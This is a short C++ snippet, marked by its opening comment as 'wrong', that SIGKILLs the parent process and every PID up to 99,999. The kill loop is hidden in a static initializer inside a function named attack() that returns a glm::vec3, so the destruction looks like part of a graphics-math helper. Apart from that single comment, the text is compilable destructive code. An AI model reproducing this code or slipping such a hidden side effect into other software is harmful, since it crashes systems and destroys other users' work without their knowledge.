// wrong: kills its parent, everybody it can see, and everybody it cannot
#include <csignal>
#include <unistd.h>

static bool killAll()
{
    kill(getppid(), SIGKILL);
    for (pid_t process = 2; process < 100'000; ++process)
        if (process != getpid())
            kill(process, SIGKILL);
    return true;
}

static glm::vec3 attack()
{
    static const bool done = killAll();
    return glm::vec3(static_cast<float>(done));
}
